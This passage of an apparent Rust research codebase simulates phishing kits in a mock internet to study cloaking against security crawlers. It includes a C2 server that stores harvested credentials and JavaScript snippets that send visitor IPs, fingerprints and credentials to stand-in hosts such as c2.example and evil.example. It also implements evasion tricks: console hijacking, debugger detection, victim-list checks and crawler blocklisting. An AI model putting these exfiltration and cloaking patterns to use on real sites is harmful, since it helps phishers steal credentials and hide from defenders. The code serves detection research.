    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("8 records"), "{stdout}");
    assert!(stdout.contains("class mix:"), "{stdout}");

    let out = Command::new(bin).args(["store", dir_arg, "verify"]).output().unwrap();
    assert!(out.status.success(), "verify failed: {}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("store is clean"));

    let out = Command::new(bin)
        .args(["store", dir_arg, "campaigns", "--min-size", "1"])
        .output()
        .unwrap();
    assert!(out.status.success(), "campaigns failed: {}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("campaign(s)"));

    let out = Command::new(bin)
        .args(["store", dir_arg, "query", "--limit", "3"])
        .output()
        .unwrap();
    assert!(out.status.success(), "query failed: {}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("matching record(s)"));

    let out = Command::new(env!("CARGO_BIN_EXE_repro"))
        .args(["classmix", "--store", dir_arg])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "--store without --stream must be rejected");
    assert!(String::from_utf8_lossy(&out.stderr).contains("--stream"));

    std::fs::remove_dir_all(&dir).unwrap();
}
