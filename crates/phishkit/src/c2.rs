//! The attacker's command-and-control server.
//!
//! Phishing pages POST visitor data here before revealing content (§V-C2 e:
//! "phishing websites send AJAX requests including user data, before
//! loading the malicious landing page"), check victims against the target
//! database, and deliver harvested credentials.

use cb_netsim::{HttpRequest, HttpResponse, NetContext, SiteHandler};
use parking_lot::Mutex;
use std::collections::BTreeSet;
use std::sync::Arc;

/// Shared C2 state (the handler is cloned into the site registry).
#[derive(Debug, Default)]
struct C2State {
    victims: BTreeSet<String>,
    harvested: Vec<String>,
    visitor_reports: Vec<String>,
    fingerprint_reports: Vec<String>,
    victim_checks: Vec<(String, bool)>,
}

/// The C2 server handler.
#[derive(Debug, Clone, Default)]
pub struct C2Server {
    state: Arc<Mutex<C2State>>,
}

impl C2Server {
    /// A C2 with an empty victim database.
    pub fn new() -> C2Server {
        C2Server::default()
    }

    /// Add a targeted victim email.
    pub fn add_victim(&self, email: &str) -> &Self {
        self.state.lock().victims.insert(email.to_ascii_lowercase());
        self
    }

    /// Credentials harvested so far (raw POST bodies).
    pub fn harvested(&self) -> Vec<String> {
        self.state.lock().harvested.clone()
    }

    /// Visitor-data exfil reports received.
    pub fn visitor_reports(&self) -> Vec<String> {
        self.state.lock().visitor_reports.clone()
    }

    /// Fingerprint-library reports received.
    pub fn fingerprint_reports(&self) -> Vec<String> {
        self.state.lock().fingerprint_reports.clone()
    }

    /// `(email, was_known)` victim-check lookups served.
    pub fn victim_checks(&self) -> Vec<(String, bool)> {
        self.state.lock().victim_checks.clone()
    }
}

impl SiteHandler for C2Server {
    fn handle(&self, req: &HttpRequest, _ctx: &NetContext<'_>) -> HttpResponse {
        let body = String::from_utf8_lossy(&req.body).into_owned();
        let mut st = self.state.lock();
        match req.url.path.as_str() {
            p if p == crate::infrastructure::VICTIM_CHECK_PATH => {
                let email = body.trim().to_ascii_lowercase();
                let known = st.victims.contains(&email);
                st.victim_checks.push((email, known));
                HttpResponse::ok("text/plain", if known { b"yes".to_vec() } else { b"no".to_vec() })
            }
            p if p == crate::infrastructure::COLLECT_PATH => {
                st.visitor_reports.push(body);
                HttpResponse::ok("text/plain", b"ok".to_vec())
            }
            "/fp" => {
                st.fingerprint_reports.push(body);
                HttpResponse::ok("text/plain", b"ok".to_vec())
            }
            "/harvest" => {
                st.harvested.push(body);
                // redirect the victim to the real site to avoid suspicion
                HttpResponse::redirect("https://login.amadora.example/")
            }
            "/debug-detected" => HttpResponse::ok("text/plain", b"ok".to_vec()),
            _ => HttpResponse::not_found(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cb_netsim::Internet;
    use cb_sim::SimTime;

    fn hosted_c2() -> (Internet, C2Server) {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        net.register_domain("c2.example", "REGRU-RU");
        let c2 = C2Server::new();
        net.host("c2.example", c2.clone());
        (net, c2)
    }

    #[test]
    fn victim_checks_answer_from_database() {
        let (net, c2) = hosted_c2();
        c2.add_victim("alice@corp.example");
        let yes = net.request(HttpRequest::post(
            "https://c2.example/check-victim",
            b"Alice@corp.example",
        ));
        assert_eq!(yes.body_text(), "yes");
        let no = net.request(HttpRequest::post(
            "https://c2.example/check-victim",
            b"mallory@corp.example",
        ));
        assert_eq!(no.body_text(), "no");
        assert_eq!(
            c2.victim_checks(),
            [
                ("alice@corp.example".to_string(), true),
                ("mallory@corp.example".to_string(), false)
            ]
        );
    }

    #[test]
    fn harvest_collects_and_redirects_to_real_site() {
        let (net, c2) = hosted_c2();
        let resp = net.request(HttpRequest::post(
            "https://c2.example/harvest",
            b"username=alice&password=hunter2",
        ));
        assert!(resp.is_redirect());
        assert_eq!(c2.harvested(), ["username=alice&password=hunter2"]);
    }

    #[test]
    fn collect_and_fp_endpoints_accumulate() {
        let (net, c2) = hosted_c2();
        net.request(HttpRequest::post("https://c2.example/collect", b"ip=1.2.3.4"));
        net.request(HttpRequest::post("https://c2.example/fp", b"wd=false"));
        assert_eq!(c2.visitor_reports(), ["ip=1.2.3.4"]);
        assert_eq!(c2.fingerprint_reports(), ["wd=false"]);
    }

    #[test]
    fn unknown_paths_404() {
        let (net, _) = hosted_c2();
        assert_eq!(net.request(HttpRequest::get("https://c2.example/x")).status, 404);
    }
}
