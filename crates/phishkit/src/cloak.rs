//! Cloaking configuration: the §III taxonomy as data.
//!
//! A kit's [`CloakConfig`] composes independent server-side and client-side
//! techniques; the corpus generator draws configurations at the §V-C2
//! prevalence rates (Turnstile 74.4%, reCAPTCHA 24.8%, console hijack ≥295
//! cases, …).

use cb_sim::SimTime;
use serde::{Deserialize, Serialize};

/// Server-side cloaking: decided from request attributes before any HTML is
/// served (§III-B2).
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct ServerCloak {
    /// Delayed activation: before this instant every visitor sees the
    /// benign page (the "send at night, activate later" tactic).
    pub activate_at: Option<SimTime>,
    /// Serve the phish only to mobile User-Agents (QR-code campaigns: the
    /// URL "should normally be decoded by a mobile phone").
    pub mobile_ua_only: bool,
    /// Refuse datacenter/VPN source addresses (IP blocklists of known
    /// scanners).
    pub block_datacenter_ips: bool,
    /// Valid URL tokens; requests lacking one are bounced to the benign
    /// page. Tokens can be individually burned.
    pub valid_tokens: Vec<String>,
    /// Burned (disabled) tokens.
    pub burned_tokens: Vec<String>,
}

impl ServerCloak {
    /// `true` if `token` grants access.
    pub fn token_ok(&self, token: Option<&str>) -> bool {
        if self.valid_tokens.is_empty() {
            return true;
        }
        match token {
            Some(t) => {
                self.valid_tokens.iter().any(|v| v == t)
                    && !self.burned_tokens.iter().any(|b| b == t)
            }
            None => false,
        }
    }
}

/// Client-side cloaking: what the served page does in the browser (§III-B1,
/// §V-C2).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ClientCloak {
    /// Cloudflare Turnstile gate before the landing page (74.4% of
    /// credential-harvesting messages).
    pub turnstile: bool,
    /// Google reCAPTCHA v3 run in the background after Turnstile (24.8%).
    pub recaptcha_v3: bool,
    /// BotD / FingerprintJS library loaded (the 5-message July cluster).
    pub fingerprint_library: bool,
    /// UA + timezone + language association check (≥15 messages).
    pub env_gate: bool,
    /// One-Time Password gate: the login page hides behind an OTP prompt
    /// (47 messages).
    pub otp_gate: bool,
    /// Custom math challenge–response (11 messages).
    pub math_challenge: bool,
    /// Console-method hijacking (≥295 messages).
    pub console_hijack: bool,
    /// Recurring `debugger`-statement timer (≥10 messages).
    pub debugger_timer: bool,
    /// Right-click / devtools key blocking (39 messages).
    pub block_devtools: bool,
    /// `hue-rotate(4deg)` on the whole document (167 pages).
    pub hue_rotate: bool,
    /// Exfiltrate visitor IP via an httpbin-style echo before loading the
    /// page (145 messages).
    pub exfil_visitor_data: bool,
    /// Additionally enrich the IP via an ipapi-style service (83 of the
    /// 145).
    pub exfil_with_geo: bool,
    /// Victim-database check: extract the email from the tokenized URL and
    /// ask the C2 whether it is a known target (151 + 143 messages).
    pub victim_db_check: bool,
    /// Hotlink the logo/background from the impersonated organization
    /// (29.8% of lookalike pages).
    pub hotlink_brand_resources: bool,
}

/// Kit-side counter-adaptation: memory the kit keeps *across* requests, so
/// a crawler that finds a working profile cannot reuse it forever. This is
/// the cloaker's move in the arms race (DESIGN.md §16): per-egress-class
/// reputation, returning-device blocklists, and a delayed reveal that only
/// patient visitors wait out. All thresholds default to 0 = off, so corpus
/// campaigns are byte-for-byte unaffected unless a config opts in.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct CounterCloak {
    /// Burn an egress class (datacenter / VPN / residential / mobile) after
    /// this many core-path requests from it: repeat visits from one class
    /// read as a scanner farm rotating addresses. 0 = off.
    #[serde(default)]
    pub egress_burn_after: u32,
    /// Blocklist a returning device fingerprint
    /// ([`cb_botdetect::report_signature`]) after this many sightings:
    /// the same measured environment probing again and again is a crawler,
    /// whatever address it arrives from. 0 = off.
    #[serde(default)]
    pub profile_burn_after: u32,
    /// Serve a meta-refresh holding page with this delay before revealing
    /// anything: crawlers that "do not wait enough time before the page is
    /// reloaded with malicious content" never see past it. 0 = off.
    #[serde(default)]
    pub reveal_delay_secs: u32,
}

impl CounterCloak {
    /// `true` when any counter-adaptation is enabled.
    pub fn is_active(&self) -> bool {
        self.egress_burn_after > 0 || self.profile_burn_after > 0 || self.reveal_delay_secs > 0
    }
}

/// A kit's complete cloaking configuration.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct CloakConfig {
    /// Server-side techniques.
    pub server: ServerCloak,
    /// Client-side techniques.
    pub client: ClientCloak,
    /// Cross-request counter-adaptation memory thresholds.
    #[serde(default)]
    pub counter: CounterCloak,
}

impl CloakConfig {
    /// No cloaking at all (plain lookalike).
    pub fn none() -> CloakConfig {
        CloakConfig::default()
    }

    /// The modal configuration the paper observed: Turnstile in front,
    /// reCAPTCHA v3 behind it, console hijack, brand hotlinking.
    pub fn typical_2024() -> CloakConfig {
        CloakConfig {
            server: ServerCloak::default(),
            client: ClientCloak {
                turnstile: true,
                recaptcha_v3: true,
                console_hijack: true,
                hotlink_brand_resources: true,
                ..ClientCloak::default()
            },
            counter: CounterCloak::default(),
        }
    }

    /// Count of distinct client-side techniques enabled (analysis metric).
    pub fn client_technique_count(&self) -> usize {
        let c = &self.client;
        [
            c.turnstile,
            c.recaptcha_v3,
            c.fingerprint_library,
            c.env_gate,
            c.otp_gate,
            c.math_challenge,
            c.console_hijack,
            c.debugger_timer,
            c.block_devtools,
            c.hue_rotate,
            c.exfil_visitor_data,
            c.victim_db_check,
        ]
        .iter()
        .filter(|&&b| b)
        .count()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn token_logic() {
        let mut s = ServerCloak::default();
        assert!(s.token_ok(None), "no tokens configured: open access");
        s.valid_tokens = vec!["dhfYWfH".into(), "aBcDeF1".into()];
        assert!(s.token_ok(Some("dhfYWfH")));
        assert!(!s.token_ok(Some("wrong")));
        assert!(!s.token_ok(None));
        s.burned_tokens = vec!["dhfYWfH".into()];
        assert!(!s.token_ok(Some("dhfYWfH")), "burned token is refused");
        assert!(s.token_ok(Some("aBcDeF1")));
    }

    #[test]
    fn typical_config_matches_paper_mode() {
        let c = CloakConfig::typical_2024();
        assert!(c.client.turnstile);
        assert!(c.client.recaptcha_v3);
        assert!(c.client.console_hijack);
        assert!(!c.client.otp_gate);
        // hotlinking is a construction choice, not an evasion technique,
        // so it does not count.
        assert_eq!(c.client_technique_count(), 3);
    }

    #[test]
    fn technique_count_counts_all_axes() {
        let mut c = CloakConfig::none();
        assert_eq!(c.client_technique_count(), 0);
        c.client.hue_rotate = true;
        c.client.debugger_timer = true;
        assert_eq!(c.client_technique_count(), 2);
    }

    #[test]
    fn serde_round_trip() {
        let c = CloakConfig::typical_2024();
        let json = serde_json::to_string(&c).unwrap();
        let back: CloakConfig = serde_json::from_str(&json).unwrap();
        assert_eq!(c, back);
    }
}
