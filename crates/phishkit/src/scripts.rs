//! MJS snippets the kits inline into served pages — the client-side
//! implementations of §V-C2, modelled on the behaviours the paper
//! describes finding in captured JavaScript.

use crate::brand::Brand;

/// Console-method hijacking (≥295 messages): redefine the logging
/// functions so they cannot be used normally.
pub fn console_hijack() -> String {
    r#"
console.log = null;
console.warn = null;
console.error = null;
console.info = null;
"#
    .to_string()
}

/// Recurring debugger timer (≥10 messages): measure time across a
/// `debugger` statement every tick; a paused debugger shows as a large
/// delta and the page bails to benign content.
pub fn debugger_timer(c2: &str) -> String {
    format!(
        r#"
var t0 = Date.now();
debugger;
var t1 = Date.now();
if (t1 - t0 > 100) {{
    fetch("{c2}/debug-detected", "1");
    location.href = "/about";
}}
setInterval("tick", 1000);
"#
    )
}

/// Environment gate (≥15 messages): UA + timezone + language association.
pub fn env_gate(expected_tz_prefix: &str) -> String {
    format!(
        r#"
var ua = navigator.userAgent;
var tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
var lang = navigator.language;
if (ua.includes("Chrome") == false || tz.startsWith("{expected_tz_prefix}") == false || lang.startsWith("en") == false) {{
    location.href = "/benign";
}}
"#
    )
}

/// Visitor-data exfiltration (145/83 messages): fetch the client IP from a
/// httpbin-style echo, optionally enrich via an ipapi-style service, post
/// to the C2.
pub fn exfil_visitor_data(c2: &str, with_geo: bool) -> String {
    let httpbin = crate::infrastructure::HTTPBIN_HOST;
    let ipapi = crate::infrastructure::IPAPI_HOST;
    let collect = crate::infrastructure::COLLECT_PATH;
    if with_geo {
        format!(
            r#"
var ip = fetch("https://{httpbin}/ip", "");
var geo = fetch("https://{ipapi}/json", ip);
fetch("{c2}{collect}", "ip=" + ip + ";geo=" + geo + ";ua=" + navigator.userAgent);
"#
        )
    } else {
        format!(
            r#"
var ip = fetch("https://{httpbin}/ip", "");
fetch("{c2}{collect}", "ip=" + ip + ";ua=" + navigator.userAgent);
"#
        )
    }
}

/// Victim-database check (151 + 143 messages): extract the recipient email
/// from the tokenized URL, validate it, ask the C2 whether it is a known
/// target; only then reveal the form.
pub fn victim_db_check(c2: &str) -> String {
    let vcheck = crate::infrastructure::VICTIM_CHECK_PATH;
    format!(
        r#"
var q = location.search;
var email = q.slice(q.indexOf("victim=") + 7);
if (isEmailValid(email)) {{
    var known = fetch("{c2}{vcheck}", email);
    if (known == "yes") {{
        document.write("reveal-form");
    }} else {{
        location.href = "/benign";
    }}
}} else {{
    location.href = "/benign";
}}
"#
    )
}

/// Right-click / devtools blocking (39 messages).
pub fn block_devtools() -> String {
    r#"
document.addEventListener("contextmenu", "prevent");
document.addEventListener("keydown", "preventDevtoolsKeys");
"#
    .to_string()
}

/// The base64-wrapped hue-rotate injector (167 pages): decode and apply a
/// 4-degree colour rotation before the document finishes parsing. The
/// attacker ships it encoded; the literal below is
/// `document.write(atob("aHVlLXJvdGF0ZSg0ZGVnKQ=="))`-style staging.
pub fn hue_rotate_inject() -> String {
    // btoa("hue-rotate(4deg)") == "aHVlLXJvdGF0ZSg0ZGVnKQ=="
    r#"
var filter = atob("aHVlLXJvdGF0ZSg0ZGVnKQ==");
console.log("applying " + filter);
"#
    .to_string()
}

/// Fingerprinting-library stanza (BotD + FingerprintJS, the July cluster):
/// collect the surface and send the visitor id to the C2.
pub fn fingerprint_library(c2: &str) -> String {
    format!(
        r#"
var wd = navigator.webdriver;
var ua = navigator.userAgent;
var sw = screen.width;
var sh = screen.height;
fetch("{c2}/fp", "wd=" + wd + ";ua=" + ua + ";s=" + sw + "x" + sh);
if (wd == true || ua.includes("HeadlessChrome")) {{
    location.href = "/benign";
}}
"#
    )
}

/// Turnstile widget beacon: the challenge script phoning the provider —
/// the loaded-resource signal the paper's prevalence counts key on.
pub fn turnstile_beacon() -> String {
    format!(
        "\nfetch(\"https://{}/turnstile/v0/siteverify\", navigator.userAgent);\n",
        crate::infrastructure::TURNSTILE_HOST
    )
}

/// reCAPTCHA v3 background beacon ("run in the background following
/// Turnstile, thereby preventing the need for victims to interact with two
/// CAPTCHA-like solutions consecutively").
pub fn recaptcha_beacon() -> String {
    format!(
        "\nfetch(\"https://{}/recaptcha/api3\", navigator.userAgent);\n",
        crate::infrastructure::RECAPTCHA_HOST
    )
}

/// The credential form's submit beacon: where harvested credentials go.
pub fn harvest_action(c2: &str) -> String {
    format!("{c2}/harvest")
}

/// Assemble the lookalike login page for `brand` with the configured
/// client-side scripts inlined.
pub fn lookalike_login(
    brand: Brand,
    c2: &str,
    scripts: &[String],
    hotlink: bool,
    hue_rotate: bool,
    noise: Option<&str>,
) -> String {
    let (logo, background) = if hotlink {
        (brand.logo_url(), brand.background_url())
    } else {
        ("/assets/logo.png".to_string(), "/assets/background.jpg".to_string())
    };
    let body_style = if hue_rotate {
        r#" style="filter: hue-rotate(4deg)""#
    } else {
        ""
    };
    let script_blocks: String = scripts
        .iter()
        .map(|s| format!("<script>{s}</script>\n"))
        .collect();
    let noise_block = noise
        .map(|n| format!("<p>{n}</p>"))
        .unwrap_or_default();
    brand.page_template(
        &harvest_action(c2),
        &logo,
        Some(&background),
        &script_blocks,
        body_style,
        &noise_block,
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use cb_script::{hosts::RecordingHost, run, Script, Value};

    #[test]
    fn all_snippets_parse_as_mjs() {
        for src in [
            console_hijack(),
            debugger_timer("https://c2.example"),
            env_gate("Europe"),
            exfil_visitor_data("https://c2.example", true),
            victim_db_check("https://c2.example"),
            block_devtools(),
            hue_rotate_inject(),
            fingerprint_library("https://c2.example"),
        ] {
            Script::parse(&src).unwrap_or_else(|e| panic!("{e}: {src}"));
        }
    }

    #[test]
    fn victim_check_reveals_only_known_targets() {
        let script = Script::parse(&victim_db_check("https://c2.example")).unwrap();
        let mut host = RecordingHost::new();
        host.set_env(
            "location.search",
            Value::from("?tok=1&victim=alice@corp.example"),
        );
        host.set_response("https://c2.example/check-victim", "yes");
        run(&script, &mut host).unwrap();
        assert_eq!(host.writes(), ["reveal-form"]);

        let mut unknown = RecordingHost::new();
        unknown.set_env(
            "location.search",
            Value::from("?tok=1&victim=bob@corp.example"),
        );
        unknown.set_response("https://c2.example/check-victim", "no");
        run(&script, &mut unknown).unwrap();
        assert!(unknown.writes().is_empty());
        assert_eq!(unknown.navigations(), ["/benign"]);
    }

    #[test]
    fn hue_rotate_payload_is_base64_wrapped() {
        let script = Script::parse(&hue_rotate_inject()).unwrap();
        let mut host = RecordingHost::new();
        run(&script, &mut host).unwrap();
        assert_eq!(host.console_lines(), ["applying hue-rotate(4deg)"]);
    }

    #[test]
    fn exfil_chains_httpbin_then_ipapi_then_c2() {
        let script = Script::parse(&exfil_visitor_data("https://c2.example", true)).unwrap();
        let mut host = RecordingHost::new();
        host.set_response("https://httpbin.example/ip", "100.0.0.7");
        host.set_response("https://ipapi.example/json", "FR;AS1234");
        run(&script, &mut host).unwrap();
        let fetches = host.fetches();
        assert_eq!(fetches.len(), 3);
        assert!(fetches[2].0.starts_with("https://c2.example/collect"));
        assert!(fetches[2].1.contains("100.0.0.7"));
        assert!(fetches[2].1.contains("FR;AS1234"));
    }

    #[test]
    fn lookalike_structure() {
        let html = lookalike_login(
            Brand::Amadora,
            "https://evil.example",
            &[console_hijack()],
            true,
            true,
            Some("random noise text"),
        );
        let doc = cb_web::Document::parse(&html);
        assert!(doc.has_password_field());
        assert_eq!(doc.form_actions(), ["https://evil.example/harvest"]);
        assert!(doc.resource_urls().contains(&Brand::Amadora.logo_url()));
        assert_eq!(doc.inline_scripts().len(), 1);
        assert!(html.contains("hue-rotate(4deg)"));
        assert!(html.contains("random noise text"));
    }

    #[test]
    fn lookalike_without_hotlink_uses_local_assets() {
        let html = lookalike_login(Brand::SkyBook, "https://evil.example", &[], false, false, None);
        let doc = cb_web::Document::parse(&html);
        assert!(doc.resource_urls().contains(&"/assets/logo.png".to_string()));
        assert!(!html.contains(Brand::SkyBook.legit_domain()));
    }
}
