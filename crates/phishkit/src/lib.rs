#![warn(missing_docs)]

//! The attacker ecosystem: phishing kits with every evasion the paper
//! observed in the wild.
//!
//! A [`PhishingSite`] is a [`cb_netsim::SiteHandler`] assembled from a
//! [`CloakConfig`]: server-side cloaking (delayed activation, User-Agent
//! filtering, IP-class blocklists, tokenized URLs — §III-B) decides *whether*
//! to serve the phish; client-side cloaking (Turnstile / reCAPTCHA gates,
//! fingerprint checks, OTP prompts, math challenges, console hijacking,
//! debugger timers, right-click blocking, the hue-rotate visual trick,
//! victim-database AJAX checks — §V-C2) shapes *what* the page does in the
//! victim's browser. Harvested credentials and exfiltrated visitor data
//! land on a [`C2Server`].
//!
//! Brand lookalikes come from [`brand::Brand`]: the five studied companies
//! plus the commodity services (§V-B: Microsoft/Excel/OneDrive/Office 365/
//! DocuSign) that non-targeted campaigns impersonate.

pub mod brand;
pub mod c2;
pub mod cloak;
pub mod scripts;
pub mod site;

/// Well-known hosts and paths of the simulated attacker/abuse ecosystem.
/// The kits emit them and the analysis recognizes them — keeping both sides
/// on these constants prevents silent drift.
pub mod infrastructure {
    /// Cloudflare-Turnstile-style challenge provider host.
    pub const TURNSTILE_HOST: &str = "challenges-cloudflare.example";
    /// reCAPTCHA-style provider host.
    pub const RECAPTCHA_HOST: &str = "recaptcha-google.example";
    /// httpbin-style IP echo host.
    pub const HTTPBIN_HOST: &str = "httpbin.example";
    /// ipapi-style IP enrichment host.
    pub const IPAPI_HOST: &str = "ipapi.example";
    /// C2 path receiving visitor-data exfiltration.
    pub const COLLECT_PATH: &str = "/collect";
    /// C2 path answering victim-database checks.
    pub const VICTIM_CHECK_PATH: &str = "/check-victim";
}

pub use brand::Brand;
pub use c2::C2Server;
pub use cloak::{ClientCloak, CloakConfig, CounterCloak, ServerCloak};
pub use site::PhishingSite;
