//! The phishing site handler: server-side cloaking decisions and page
//! assembly.
//!
//! Decision order mirrors the deployed kits the paper describes: delayed
//! activation → User-Agent filtering → IP blocklist → URL token → bot
//! challenges (Turnstile, then reCAPTCHA v3 in the background) →
//! interaction gates (OTP / math challenge) → the cloaked lookalike login
//! page. Every rejection serves plausible *benign* content, never an error
//! — that is the point of cloaking.

use crate::brand::Brand;
use crate::cloak::CloakConfig;
use crate::scripts;
use cb_botdetect::{report_signature, AnonWaf, Detector, ReCaptchaV3, Turnstile};
use cb_browser::ChallengeReport;
use cb_netsim::{HttpRequest, HttpResponse, IpClass, NetContext, SiteHandler};
use parking_lot::Mutex;
use std::collections::HashMap;
use std::sync::Arc;

/// Serving statistics, for the analysis phase.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ServeStats {
    /// Requests answered with the phishing page.
    pub phish_served: u64,
    /// Requests answered with benign/cloak content.
    pub benign_served: u64,
    /// Requests answered with an interaction gate.
    pub gates_served: u64,
    /// Requests bounced by counter-memory (burned egress class or
    /// blocklisted fingerprint) — a subset of `benign_served`.
    pub counter_blocked: u64,
}

/// The kit's cross-request counter-adaptation memory (DESIGN.md §16):
/// per-egress-class request counts and per-device-fingerprint sighting
/// counts. Deterministic given the request sequence the site observes —
/// the adaptive experiment deploys one site per campaign and probes it
/// serially, so the race replays bit-identically per seed.
#[derive(Debug, Default)]
struct CounterMemory {
    /// Core-path requests seen per egress class, indexed by
    /// [`IpClass::ALL`] position.
    egress_seen: [u32; 4],
    /// Sightings per device-fingerprint signature.
    profile_seen: HashMap<u64, u32>,
}

fn class_slot(class: IpClass) -> usize {
    IpClass::ALL
        .iter()
        .position(|&c| c == class)
        .expect("IpClass::ALL is exhaustive")
}

/// The default OTP-gate code kits ship with (the victim receives it out of
/// band; the corpus generator places it in the lure body).
pub const DEFAULT_OTP_CODE: &str = "491827";

/// A deployed phishing site for one campaign.
#[derive(Debug, Clone)]
pub struct PhishingSite {
    brand: Brand,
    c2_base: String,
    cloak: CloakConfig,
    /// Correct OTP for the OTP gate (sent to the victim separately).
    otp_code: String,
    stats: Arc<Mutex<ServeStats>>,
    memory: Arc<Mutex<CounterMemory>>,
    /// Also protect the site behind the commercial WAF (kits hosted behind
    /// such services inherit their bot filtering).
    waf: bool,
}

impl PhishingSite {
    /// A site impersonating `brand`, exfiltrating to `c2_base`
    /// (e.g. `"https://c2.example"`), cloaked per `cloak`.
    pub fn new(brand: Brand, c2_base: &str, cloak: CloakConfig) -> PhishingSite {
        PhishingSite {
            brand,
            c2_base: c2_base.trim_end_matches('/').to_string(),
            cloak,
            otp_code: DEFAULT_OTP_CODE.to_string(),
            stats: Arc::new(Mutex::new(ServeStats::default())),
            memory: Arc::new(Mutex::new(CounterMemory::default())),
            waf: false,
        }
    }

    /// Put the site behind the AnonWAF-style bot filter as well.
    pub fn with_waf(mut self) -> PhishingSite {
        self.waf = true;
        self
    }

    /// Set the OTP-gate code.
    pub fn with_otp_code(mut self, code: &str) -> PhishingSite {
        self.otp_code = code.to_string();
        self
    }

    /// The impersonated brand.
    pub fn brand(&self) -> Brand {
        self.brand
    }

    /// The cloaking configuration.
    pub fn cloak(&self) -> &CloakConfig {
        &self.cloak
    }

    /// Current serving statistics.
    pub fn stats(&self) -> ServeStats {
        *self.stats.lock()
    }

    fn benign(&self, why: &str) -> HttpResponse {
        self.stats.lock().benign_served += 1;
        HttpResponse::html(&format!(
            r#"<html><head><title>Welcome</title></head>
<body><h2>Site under maintenance</h2>
<p>Our services will be back shortly. Thank you for your patience.</p>
<!-- cloak: {why} -->
</body></html>"#
        ))
    }

    fn gate(&self, kind: &str, prompt: &str) -> HttpResponse {
        self.stats.lock().gates_served += 1;
        HttpResponse::html(&format!(
            r#"<html><body>
<h2>Verification required</h2>
<p>{prompt}</p>
<div data-requires-interaction="{kind}"></div>
<form action="?"><input type="text" name="{kind}"></form>
</body></html>"#
        ))
    }

    fn phish_page(&self) -> HttpResponse {
        self.stats.lock().phish_served += 1;
        let c = &self.cloak.client;
        let mut blocks = Vec::new();
        if c.turnstile {
            blocks.push(scripts::turnstile_beacon());
        }
        if c.recaptcha_v3 {
            blocks.push(scripts::recaptcha_beacon());
        }
        if c.console_hijack {
            blocks.push(scripts::console_hijack());
        }
        if c.debugger_timer {
            blocks.push(scripts::debugger_timer(&self.c2_base));
        }
        if c.env_gate {
            blocks.push(scripts::env_gate("Europe"));
        }
        if c.fingerprint_library {
            blocks.push(scripts::fingerprint_library(&self.c2_base));
        }
        if c.exfil_visitor_data {
            blocks.push(scripts::exfil_visitor_data(&self.c2_base, c.exfil_with_geo));
        }
        if c.victim_db_check {
            blocks.push(scripts::victim_db_check(&self.c2_base));
        }
        if c.block_devtools {
            blocks.push(scripts::block_devtools());
        }
        if c.hue_rotate {
            blocks.push(scripts::hue_rotate_inject());
        }
        let html = scripts::lookalike_login(
            self.brand,
            &self.c2_base,
            &blocks,
            c.hotlink_brand_resources,
            c.hue_rotate,
            None,
        );
        HttpResponse::html(&html)
    }
}

/// Heuristic the kits use for mobile filtering.
fn is_mobile_ua(ua: &str) -> bool {
    ua.contains("iPhone") || ua.contains("Android") || ua.contains("Mobile")
}

impl SiteHandler for PhishingSite {
    fn handle(&self, req: &HttpRequest, ctx: &NetContext<'_>) -> HttpResponse {
        // Utility paths every variant serves.
        match req.url.path.as_str() {
            "/benign" | "/about" => return self.benign("utility path"),
            "/assets/logo.png" => {
                return HttpResponse::ok(
                    "image/png",
                    vec![0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A],
                )
            }
            "/assets/background.jpg" => {
                return HttpResponse::ok("image/jpeg", vec![0xFF, 0xD8, 0xFF])
            }
            _ => {}
        }

        let s = &self.cloak.server;
        // 1. Delayed activation.
        if let Some(t0) = s.activate_at {
            if ctx.now < t0 {
                return self.benign("not yet active");
            }
        }
        // 2. User-Agent filtering (QR campaigns: mobile only).
        if s.mobile_ua_only && !is_mobile_ua(req.user_agent()) {
            return self.benign("desktop ua filtered");
        }
        // 3. IP blocklists.
        if s.block_datacenter_ips
            && matches!(
                ctx.client_class,
                cb_netsim::IpClass::Datacenter | cb_netsim::IpClass::VpnProxy
            )
        {
            return self.benign("scanner ip class");
        }
        // 4. Tokenized URL.
        if !s.token_ok(req.url.path_token()) {
            return self.benign("missing or burned token");
        }

        // 4b. Delayed reveal: a holding page that meta-refreshes into the
        // real content. Only visitors patient enough to wait out the delay
        // ever reach the steps below; the holding request itself is not
        // charged against the reputation counters, so one logical visit
        // costs one count no matter how it got here.
        let counter = &self.cloak.counter;
        if counter.reveal_delay_secs > 0 && req.url.query_param("revealed") != Some("1") {
            self.stats.lock().benign_served += 1;
            let target = if req.url.query.is_empty() {
                format!("{}?revealed=1", req.url.path)
            } else {
                format!("{}?{}&revealed=1", req.url.path, req.url.query)
            };
            return HttpResponse::html(&format!(
                r#"<html><head><title>Welcome</title>
<meta http-equiv="refresh" content="{delay}; url={target}"></head>
<body><h2>Preparing your document&hellip;</h2>
<p>Please keep this page open.</p>
<!-- cloak: delayed reveal -->
</body></html>"#,
                delay = counter.reveal_delay_secs,
            ));
        }

        // 4c. Egress-class reputation memory: the first `egress_burn_after`
        // core-path requests from a class pass; afterwards the whole class
        // reads as a scanner farm rotating addresses and is burned for good.
        if counter.egress_burn_after > 0 {
            let slot = class_slot(ctx.client_class);
            let mut mem = self.memory.lock();
            let prior = mem.egress_seen[slot];
            mem.egress_seen[slot] = prior + 1;
            drop(mem);
            if prior >= counter.egress_burn_after {
                self.stats.lock().counter_blocked += 1;
                return self.benign("egress class burned");
            }
        }

        // 4d. Returning-device blocklist: the same measured environment
        // (UA + tells + TLS + egress class) probing more than
        // `profile_burn_after` times is a crawler, whatever address it
        // arrives from. No-JS clients carry no attestation and are handled
